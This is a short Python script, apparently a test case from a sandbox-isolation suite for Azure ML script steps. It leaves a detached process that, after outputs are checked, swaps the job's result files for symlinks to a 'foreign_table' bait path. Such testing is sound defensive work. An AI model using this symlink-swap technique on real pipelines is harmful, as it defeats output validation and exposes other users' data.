"""Leaves a process that swaps the results when the job is over, after they were checked."""

import os

from attack import BAIT, attack, detached, job_folder, until


def swap():
    outputs = os.path.join(job_folder(), "outputs")
    for _ in until(3):
        for port in ("result_dataset", "result_dataset2"):
            try:
                os.symlink(BAIT["foreign_table"], os.path.join(outputs, "swapped"))
                os.rename(os.path.join(outputs, "swapped"), os.path.join(outputs, f"{port}.arrow"))
            except OSError:
                continue


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    detached(swap)
    return ""
